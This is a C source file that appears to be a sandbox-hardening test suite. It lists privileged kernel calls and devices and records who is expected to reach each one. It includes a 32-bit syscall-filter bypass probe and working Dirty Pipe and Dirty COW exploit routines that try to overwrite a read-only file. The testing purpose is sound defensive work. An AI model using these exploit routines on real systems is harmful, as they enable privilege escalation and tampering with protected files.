/* Calls that reach deep into the kernel, and devices. */
#include "attempts.h"
#include <linux/bpf.h>
#include <linux/fs.h>
#include <linux/perf_event.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/personality.h>
#include <sys/timex.h>
#include <sys/wait.h>
#include <time.h>

static int load_bpf(void) {
  struct bpf_insn program[] = {{.code = 0xb7}, {.code = 0x95}};
  union bpf_attr attributes = {0};
  attributes.prog_type = BPF_PROG_TYPE_SOCKET_FILTER;
  attributes.insn_cnt = 2;
  attributes.insns = (uint64_t)(uintptr_t)program;
  attributes.license = (uint64_t)(uintptr_t)"GPL";
  return taken(syscall(SYS_bpf, BPF_PROG_LOAD, &attributes, sizeof attributes));
}

static int make_bpf_map(void) {
  union bpf_attr attributes = {.map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 4, .max_entries = 1};
  return taken(syscall(SYS_bpf, BPF_MAP_CREATE, &attributes, sizeof attributes));
}

static int count_events(void) {
  struct perf_event_attr attributes = {.type = PERF_TYPE_SOFTWARE, .size = sizeof attributes, .config = PERF_COUNT_SW_CPU_CLOCK};
  return taken(syscall(SYS_perf_event_open, &attributes, 0, -1, -1, 0));
}

static int handle_faults(void) { return taken(syscall(SYS_userfaultfd, O_CLOEXEC | 1)); }

static int use_rings(void) {
  uint64_t parameters[15] = {0};
  return taken(syscall(SYS_io_uring_setup, 4, parameters));
}

static int add_key(void) { return taken(syscall(SYS_add_key, "user", "anthill-escape", "x", 1, -2)); }
static int read_keyring(void) { return taken(syscall(SYS_keyctl, 0, -2, 1)); }
static int request_key(void) {
  long key = syscall(SYS_request_key, "user", "anthill-none", NULL, 0);
  return found(key >= 0 || errno == 126 /* ENOKEY */, "%s", strerror(errno));
}
static int see_keys(void) { return holds("/proc/keys", "keyring"); }

static int load_module(void) { return taken(syscall(SYS_init_module, NULL, 0, "")); }
static int load_module_file(void) { return taken(syscall(SYS_finit_module, -1, "", 0)); }
static int unload_module(void) {
  long done = syscall(SYS_delete_module, "anthill_none", O_NONBLOCK);
  return found(done == 0 || errno == ENOENT, "%s", strerror(errno));
}

static int replace_kernel(void) { return taken(syscall(SYS_kexec_load, 0, 0, NULL, ~0UL)); }
static int replace_kernel_file(void) { return taken(syscall(SYS_kexec_file_load, -1, -1, 0, NULL, ~0UL)); }
/* A wrong magic number: whoever may reboot is told that, all others that they may not. */
static int reboot_machine(void) { return taken(syscall(SYS_reboot, 0, 0, 0, NULL)); }

static int set_clock(void) {
  struct timespec now;
  clock_gettime(CLOCK_REALTIME, &now);
  return taken(clock_settime(CLOCK_REALTIME, &now));
}

static int tune_clock(void) {
  struct timex parameters = {.modes = ADJ_ESTERROR, .esterror = 16000000};
  return taken(adjtimex(&parameters));
}

static int set_name(void) {
  char name[65];
  gethostname(name, sizeof name);
  return taken(sethostname(name, strlen(name)));
}

static int set_domain(void) {
  char name[65];
  getdomainname(name, sizeof name);
  return taken(setdomainname(name, strlen(name)));
}

static int read_log(void) {
  char bytes[8];
  return taken(syscall(SYS_syslog, 3 /* read all */, bytes, sizeof bytes));
}
static int account_processes(void) {
  long done = syscall(SYS_acct, scratch("no-such-file"));
  return found(done == 0 || errno == ENOENT, "%s", strerror(errno));
}
static int swap_on(void) {
  long done = syscall(SYS_swapon, scratch("no-such-file"), 0);
  return found(done == 0 || errno == ENOENT, "%s", strerror(errno));
}
static int swap_off(void) {
  long done = syscall(SYS_swapoff, scratch("no-such-file"));
  return found(done == 0 || errno == ENOENT, "%s", strerror(errno));
}
static int set_quota(void) {
  long done = syscall(SYS_quotactl, 0x80000800 /* on */, scratch("no-such-file"), 0, NULL);
  return found(done == 0 || (errno != EPERM && errno != ENOSYS), "%s", strerror(errno));
}
static int watch_everything(void) { return taken(syscall(SYS_fanotify_init, 0, 0)); }
static int fix_layout(void) { return taken(syscall(SYS_personality, (unsigned long)ADDR_NO_RANDOMIZE)); }
static int hide_memory(void) { return taken(syscall(SYS_memfd_secret, 0)); }
static int move_pages(void) { return taken(syscall(SYS_migrate_pages, 0, 0, NULL, NULL)); }
static int place_pages(void) { return taken(syscall(SYS_set_mempolicy, 0, NULL, 0)); }

#ifdef __x86_64__
static int touch_ports(void) { return taken(syscall(SYS_ioperm, 0x80, 1, 1)); }
static int raise_port_level(void) { return taken(syscall(SYS_iopl, 3)); }
static int change_segments(void) {
  char bytes[16];
  return taken(syscall(SYS_modify_ldt, 0, bytes, sizeof bytes));
}
static int call_x32(void) { return taken(syscall(0x40000000 | SYS_getpid)); }

/* getpid by the 32-bit interface, which the filter has never seen a number of. */
static int call_32_bit(void) {
  long result;
  __asm__ volatile("int $0x80" : "=a"(result) : "a"(20) : "memory", "r8", "r9", "r10", "r11");
  return found(result > 0, "%ld", result);
}
#endif

/* CVE-2022-0847: a page of a file that was spliced into a pipe is written to with what follows in the pipe. */
static int dirty_pipe(void) {
  const char *path = setting("init");
  int ends[2], fd = open(path, O_RDONLY | O_CLOEXEC);
  char bytes[4096], before, after;
  if (fd < 0 || pipe(ends) != 0 || pread(fd, &before, 1, 1) != 1) return found(0, "%s", strerror(errno));
  int size = fcntl(ends[1], F_GETPIPE_SZ);
  for (int left = size; left > 0; left -= sizeof bytes)
    if (write(ends[1], bytes, sizeof bytes) < 0) return 0;
  for (int left = size; left > 0; left -= sizeof bytes)
    if (read(ends[0], bytes, sizeof bytes) < 0) return 0;
  off64_t at = 0;
  if (splice(fd, &at, ends[1], NULL, 1, 0) != 1) return found(0, "splice: %s", strerror(errno));
  char other = ~before;
  if (write(ends[1], &other, 1) != 1 || pread(fd, &after, 1, 1) != 1) return 0;
  return found(after != before, "the file is %s", after == before ? "as before" : "another");
}

/* CVE-2016-5195: a private page of a file that may only be read is written to while it is given back. */
static int dirty_cow(void) {
  const char *path = setting("init");
  int fd = open(path, O_RDONLY | O_CLOEXEC), memory = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
  char before, after;
  if (fd < 0 || memory < 0 || pread(fd, &before, 1, 1) != 1) return found(0, "%s", strerror(errno));
  char *page = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
  pid_t other = fork();
  if (other == 0)
    for (int i = 0; i < 3000; i++) madvise(page, 4096, MADV_DONTNEED);
  if (other == 0) _exit(0);
  char wanted = ~before;
  for (int i = 0; i < 3000; i++) pwrite(memory, &wanted, 1, (off_t)(uintptr_t)page + 1);
  waitpid(other, NULL, 0);
  if (pread(fd, &after, 1, 1) != 1) return 0;
  return found(after != before, "the file is %s", after == before ? "as before" : "another");
}

static int disk(void) { return opens_device("disk", S_IFBLK, 254, 0) || can_open("/dev/vda", O_RDONLY) || can_open("/dev/sda", O_RDONLY); }
static int loop_control(void) { return opens_device("loop", S_IFCHR, 10, 237) || can_open("/dev/loop-control", O_RDWR); }
static int memory(void) { return opens_device("mem", S_IFCHR, 1, 1) || can_open("/dev/mem", O_RDONLY); }
static int log_device(void) { return opens_device("kmsg", S_IFCHR, 1, 11) || can_open("/dev/kmsg", O_RDONLY); }
static int fuse(void) { return opens_device("fuse", S_IFCHR, 10, 229) || can_open("/dev/fuse", O_RDWR); }
static int virtual_machines(void) { return opens_device("kvm", S_IFCHR, 10, 232) || can_open("/dev/kvm", O_RDWR); }
static int tunnels(void) { return opens_device("tun", S_IFCHR, 10, 200) || can_open("/dev/net/tun", O_RDWR); }
static int console(void) { return opens_device("console", S_IFCHR, 5, 1); }

static int make_immutable(void) {
  const char *path = scratch("immutable");
  write_text(path, "x");
  int fd = open(path, O_RDONLY | O_CLOEXEC), flags = FS_IMMUTABLE_FL, none = 0;
  int done = ioctl(fd, FS_IOC_SETFLAGS, &flags);
  int out = taken(done);
  if (done == 0) ioctl(fd, FS_IOC_SETFLAGS, &none);
  return out;
}

/* Would stop all writing to the disk: on the host a file system is asked that cannot be frozen, and says so. */
static int freeze_disk(void) {
  int fd = open(setting("freezable"), O_RDONLY | O_CLOEXEC);
  int done = ioctl(fd, FIFREEZE, 0);
  if (done == 0) ioctl(fd, FITHAW, 0);
  return found(done == 0 || errno == EOPNOTSUPP, "%s", strerror(errno));
}

const Attempt kernel_attempts[] = {
  {"load a BPF program", ROOT, load_bpf},
  {"make a BPF map", ROOT, make_bpf_map},
  {"open a performance counter", ROOT, count_events},
  {"handle page faults", ANYONE, handle_faults},
  {"use io_uring", ANYONE, use_rings},
  {"add a key to a keyring", ANYONE, add_key},
  {"read a keyring", ANYONE, read_keyring},
  {"request a key", ANYONE, request_key},
  {"see keys of others", NOWHERE, see_keys},
  {"load a module", ROOT, load_module},
  {"load a module from a file", ROOT, load_module_file},
  {"unload a module", ROOT, unload_module},
  {"replace the kernel", ROOT, replace_kernel},
  {"replace the kernel from a file", ROOT, replace_kernel_file},
  {"reboot", ROOT, reboot_machine},
  {"set the clock", ROOT, set_clock},
  {"tune the clock", ROOT, tune_clock},
  {"rename the machine", ROOT, set_name},
  {"set the domain of the machine", ROOT, set_domain},
  {"read the log by syslog", ROOT, read_log},
  {"write accounts of processes", ROOT, account_processes},
  {"swap to a file", ROOT, swap_on},
  {"stop swapping", ROOT, swap_off},
  {"set quotas", ROOT, set_quota},
  {"watch all files", ROOT, watch_everything},
  {"fix its layout in memory", ANYONE, fix_layout},
  {"hide memory from the kernel", NOWHERE, hide_memory},
  {"migrate pages", ANYONE, move_pages},
  {"place pages", ANYONE, place_pages},
#ifdef __x86_64__
  {"touch ports of the machine", ROOT, touch_ports},
  {"raise its level of port access", ROOT, raise_port_level},
  {"change its segments", NOWHERE, change_segments},
  {"call the kernel by the x32 interface", NOWHERE, call_x32},
  {"call the kernel by the 32-bit interface", NOWHERE, call_32_bit},
#endif
  {"write to a file through a pipe (CVE-2022-0847)", NOWHERE, dirty_pipe},
  {"write to a file through a private page (CVE-2016-5195)", NOWHERE, dirty_cow},
  {"read a disk", ROOT, disk},
  {"make loop devices", ROOT, loop_control},
  {"open the memory of the machine", ROOT, memory},
  {"open the log device", ROOT, log_device},
  {"mount by fuse", ROOT, fuse},
  {"run virtual machines", ROOT, virtual_machines},
  {"make a tunnel", ROOT, tunnels},
  {"write to the console", ROOT, console},
  {"make a file immutable", ROOT, make_immutable},
  {"freeze a disk", ROOT, freeze_disk},
  {NULL, 0, NULL},
};
